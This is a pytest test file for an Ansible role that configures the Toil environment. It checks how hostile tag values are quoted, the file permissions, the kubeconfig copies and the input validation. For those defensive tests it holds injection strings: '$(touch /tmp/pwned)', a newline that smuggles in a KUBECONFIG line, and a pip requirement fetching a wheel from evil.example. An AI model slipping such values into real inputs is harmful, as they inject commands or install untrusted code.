"""The toil role's environment, on this machine (no container host): the role's appliance task runs against the
real Toil 9.6.0 in .venv-toil, and the environment file it renders is read back by a shell as users get it. The
values come the way configure_cluster passes them (its toil_aws_tags and toil_appliance_self expressions, from a
leader's EC2 tags and the controller's TOIL_APPLIANCE_SELF), hostile ones included; the role's input check refuses
values that would change a requirement, an image or a path."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest
import yaml

from harness.paths import REPO
from harness.playbooks import run_ansible_playbook

ROLE = REPO / "roles" / "toil"
CONFIGURE = REPO / "playbooks" / "configure_cluster.yml"
# A user tag a shell or systemd would misread if it were written raw: quotes, expansions, a backslash, a newline.
HOSTILE = 'it\'s "q" $(touch /tmp/pwned) `id` ${HOME} \\ end\nKUBECONFIG=/etc/kubernetes/admin.conf'
# The leader's EC2 tags as launch_cluster writes them (module_utils/tags.py, Toil's order) plus this collection's.
LEADER_TAGS = {
    "Name": "lab",
    "Owner": "me",
    "clusterName": "lab",
    "Project": HOSTILE,
    "kubernetes.io/cluster/lab": "",
    "ToilNodeType": "leader",
    "sshKeyName": "me-key",
    "toil.cluster/joined": "true",
}
# Toil's TOIL_AWS_TAGS for that leader: json.dumps(self._tags) in AWSProvisioner.toil_service_env_options, where
# _tags is Name, Owner, clusterName and the user's tags when the leader's user data is made (launchCluster adds the
# kubernetes.io/cluster tag after that; ToilNodeType and sshKeyName are the leader's own).
TOIL_AWS_TAGS = {"Name": "lab", "Owner": "me", "clusterName": "lab", "Project": HOSTILE}
APPLIANCE = "registry.example:5000/lab/toil:9.6.0-custom"


def configure_cluster_toil_vars() -> dict[str, str]:
    """configure_cluster's expressions for the toil role's toil_aws_tags and toil_appliance_self, as written."""
    plays = yaml.safe_load(CONFIGURE.read_text())
    leader_play = next(play for play in plays if "toil_configure_leader" in str(play.get("hosts")))  # that group, if it exists
    return {name: leader_play["vars"][name] for name in ("toil_aws_tags", "toil_appliance_self")}


@pytest.fixture(scope="module")
def environment_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("rendered")
    tasks = [t for t in yaml.safe_load((ROLE / "tasks" / "main.yml").read_text()) if t["name"] == "Read the appliance image of the installed Toil"]
    tasks.append(
        {"name": "Render", "ansible.builtin.template": {"src": str(ROLE / "templates" / "environment.j2"), "dest": str(out / "environment"), "mode": "0644"}}
    )
    tasks.append(
        {
            "name": "Render the profile script",
            "ansible.builtin.template": {"src": str(ROLE / "templates" / "profile.sh.j2"), "dest": str(out / "profile.sh"), "mode": "0644"},
            "vars": {"_toil_environment_file": str(out / "environment")},
        }
    )
    play = {
        "hosts": "localhost",
        "gather_facts": False,
        "vars_files": [str(ROLE / "defaults" / "main.yml"), str(ROLE / "vars" / "main.yml")],
        "vars": {"placement": {"availability_zone": "us-west-2a"}},
        "tasks": tasks,
    }
    extra = {"toil_venv": str(REPO / ".venv-toil"), "toil_s3_host": "minio.local", "ec2_tags": LEADER_TAGS, "appliance": ""}
    extra.update(configure_cluster_toil_vars())
    env = {"TOIL_APPLIANCE_SELF": APPLIANCE}  # the controller's, which configure_cluster passes on
    run_ansible_playbook(play, dict(os.environ), tmp_path_factory.mktemp("playbook"), extra_vars=extra, env=env, timeout=120)
    return out / "environment"


def read_environment(environment_file: Path) -> dict[str, str]:
    script = f"set -a; . {environment_file}; env -0"
    out = subprocess.run(["sh", "-c", script], env={}, capture_output=True, text=True, check=True).stdout
    return dict(entry.split("=", 1) for entry in out.split("\0") if "=" in entry)


def test_environment_has_the_clusters_tags_and_the_controllers_appliance(environment_file: Path) -> None:
    env = read_environment(environment_file)
    assert env["TOIL_APPLIANCE_SELF"] == APPLIANCE  # configure_cluster passed the controller's TOIL_APPLIANCE_SELF
    assert env["TOIL_AWS_ZONE"] == "us-west-2a"
    assert json.loads(env["TOIL_AWS_TAGS"]) == TOIL_AWS_TAGS  # what Toil gives its leader, the hostile value intact
    assert env["TOIL_KUBERNETES_HOST_PATH"] == "/var/lib/toil"
    assert env["TOIL_KUBERNETES_PRIVILEGED"] == "True"  # toil_allow_fuse, as launch-cluster --allowFuse's default
    assert "KUBECONFIG" not in env  # each user's own, set by the profile script
    assert env["TOIL_S3_HOST"] == "minio.local"
    assert "TOIL_S3_PORT" not in env
    assert not Path("/tmp/pwned").exists()


def test_toil_reads_the_environment_as_written(environment_file: Path) -> None:
    """Toil's own readers: its tag parser (toil.lib.aws.build_tag_dict_from_env), the privileged flag's parser
    (opt_strtobool, --kubernetesPrivileged's type) and the appliance (toil.applianceSelf), in the real Toil 9.6.0."""
    code = (
        "import json, toil; from toil.lib.aws import build_tag_dict_from_env as tags; from toil.lib.conversions import opt_strtobool as b; "
        "import os; print(json.dumps([tags(), b(os.environ['TOIL_KUBERNETES_PRIVILEGED']), toil.applianceSelf(forceDockerAppliance=True)]))"
    )
    script = f"set -a; . {environment_file}; exec {REPO / '.venv-toil' / 'bin' / 'python'} -c {shlex.quote(code)}"
    out = subprocess.run(["sh", "-c", script], env={}, capture_output=True, text=True, check=True).stdout
    assert json.loads(out) == [TOIL_AWS_TAGS, True, APPLIANCE]


def test_the_appliance_comes_from_the_appliance_variable_first() -> None:
    """``appliance`` (the playbook's flag) wins over the controller's TOIL_APPLIANCE_SELF; without either, the role
    reads the installed Toil's image (empty here)."""
    expression = configure_cluster_toil_vars()["toil_appliance_self"]
    play = {"hosts": "localhost", "gather_facts": False, "tasks": [{"name": "Show", "ansible.builtin.debug": {"msg": expression}}]}
    for appliance, controller, expected in (("quay.io/me/toil:1.0", APPLIANCE, "quay.io/me/toil:1.0"), ("", None, "")):
        with tempfile.TemporaryDirectory() as workdir:
            env = {"TOIL_APPLIANCE_SELF": controller}
            result = run_ansible_playbook(play, dict(os.environ), Path(workdir), extra_vars={"appliance": appliance}, env=env, timeout=120)
            assert result.task("Show")["msg"] == expected


def test_the_environment_is_written_for_root_and_toils_group_only() -> None:
    """It holds user-given values (toil_extra_environment, toil_aws_tags): 0640 root:<toil_group>, not 0644."""
    tasks = {t["name"]: t for t in yaml.safe_load((ROLE / "tasks" / "main.yml").read_text())}
    template = tasks["Write the environment Toil's users expect (systemd EnvironmentFile syntax)"]["ansible.builtin.template"]
    assert (template["owner"], template["group"], template["mode"]) == ("root", "{{ toil_group }}", "0640")
    members = tasks["Add the users who run Toil to it (keeping their other groups)"]["ansible.builtin.user"]
    assert members["append"] is True  # the login user keeps its other groups (sudo, ...)
    defaults = yaml.safe_load((ROLE / "defaults" / "main.yml").read_text())
    assert defaults["toil_group"] == "toil"
    assert "ansible_user" in defaults["toil_group_members"]  # the user Ansible logs in as runs Toil


def test_login_shells_of_other_users_get_the_path_without_an_error(environment_file: Path) -> None:
    """The profile script skips the environment it cannot read (users outside the toil group) without a message."""
    with tempfile.TemporaryDirectory(dir="/tmp") as shared:  # pytest's own directories are root's only (0700)
        here = Path(shared)
        here.chmod(0o755)
        shutil.copy(environment_file, here / "environment")
        (here / "environment").chmod(0o640)  # root:root here; on the leader root:toil
        profile = (environment_file.parent / "profile.sh").read_text().replace(str(environment_file), str(here / "environment"))
        (here / "profile.sh").write_text(profile)
        (here / "profile.sh").chmod(0o644)
        script = f". {here / 'profile.sh'}; echo PRIVILEGED=${{TOIL_KUBERNETES_PRIVILEGED:-}} KUBECONFIG=${{KUBECONFIG:-}}"
        nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-c", script]
        out = subprocess.run(nobody, env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent"}, capture_output=True, text=True, check=True)
        assert (out.stdout, out.stderr) == ("PRIVILEGED= KUBECONFIG=\n", "")
        member = subprocess.run(["sh", "-c", script], env={"PATH": "/usr/bin:/bin", "HOME": "/home/admin"}, capture_output=True, text=True, check=True)
        # A member's own copy of the cluster's kubeconfig, not kubeadm's root-only admin.conf.
        assert (member.stdout, member.stderr) == ("PRIVILEGED=True KUBECONFIG=/home/admin/.kube/config\n", "")


# (variable, value) the role's input check must refuse before anything is installed or written.
BAD_INPUTS = [
    ("toil_appliance_self", "quay.io/ucsc_cgl/toil:9.6.0\nKUBECONFIG=/etc/kubernetes/admin.conf"),
    ("toil_appliance_self", "toil'; touch /tmp/pwned; '"),
    ("toil_appliance_self", "quay.io/x/toil:tag\n"),  # a trailing newline: Python's $ would let it through
    ("toil_extras", ["aws] @ https://evil.example/toil.whl ; python_version>'0"]),  # a requirement of its own
    ("toil_extras", "cwl"),  # a string, not a list
    ("toil_kubeconfig_source", "admin.conf"),  # relative: root would copy whatever the working directory holds
    ("toil_kubeconfig", "~/.kube/config"),  # not expanded by kubectl or systemd: absolute or empty
    ("toil_allow_fuse", "maybe"),
    ("toil_group_members", ["admin", "-r"]),  # an option to the user tools, not a user
]


def test_the_role_refuses_bad_inputs_before_any_change(tmp_path: Path) -> None:
    tasks = yaml.safe_load((ROLE / "tasks" / "main.yml").read_text())
    check = tasks[0]
    assert check["name"] == "Check the role's inputs" and "ansible.builtin.assert" in check  # it runs first
    cases = [{"toil_appliance_self": "quay.io/ucsc_cgl/toil:9.6.0-6793fc7f-py3.10"}, {"toil_appliance_self": "ubuntu:22.04"}]
    cases += [{name: value} for name, value in BAD_INPUTS]
    play_tasks = [
        {"name": f"Case {i}", "block": [dict(check, name=f"Check {i}", vars={**check.get("vars", {}), **case})], "rescue": [{"ansible.builtin.meta": "noop"}]}
        for i, case in enumerate(cases)
    ]
    defaults = [str(ROLE / "defaults" / "main.yml")]
    play = {"hosts": "localhost", "gather_facts": False, "vars_files": defaults, "vars": {"ansible_user": "admin"}, "tasks": play_tasks}
    result = run_ansible_playbook(play, dict(os.environ), tmp_path, timeout=120)
    outcome = [bool(result.task(f"Check {i}").get("failed")) for i in range(len(cases))]
    assert outcome == [False, False] + [True] * len(BAD_INPUTS), list(zip(cases, outcome, strict=True))
    assert "toil_appliance_self empty or an image" in result.task(f"Check {2}")["msg"]


def test_each_user_gets_a_copy_made_on_the_host_never_shown() -> None:
    """The admin kubeconfig is copied host-side (remote_src: its credentials never reach the controller), 0600 to the
    user, under a 0700 ~/.kube, with diff off; a symbolic link in the way is refused first."""
    tasks = {t["name"]: t for t in yaml.safe_load((ROLE / "tasks" / "main.yml").read_text())}
    names = list(tasks)
    copy = tasks["Give each user its own copy of the cluster's admin kubeconfig (~/.kube/config, 0600)"]
    args = copy["ansible.builtin.copy"]
    assert args["remote_src"] is True and args["src"] == "{{ toil_kubeconfig_source }}" and args["mode"] == "0600"
    assert args["owner"] == "{{ item.item }}" and copy["diff"] is False
    kube_dir = tasks["Make each user's ~/.kube (0700)"]["ansible.builtin.file"]
    assert (kube_dir["state"], kube_dir["mode"], kube_dir["owner"]) == ("directory", "0700", "{{ item.item }}")
    refuse = names.index("Refuse a ~/.kube or ~/.kube/config that is a symbolic link")
    assert refuse < names.index("Make each user's ~/.kube (0700)") < names.index(copy["name"])
    assert tasks["Look at each user's ~/.kube and ~/.kube/config without following links"]["ansible.builtin.stat"]["follow"] is False
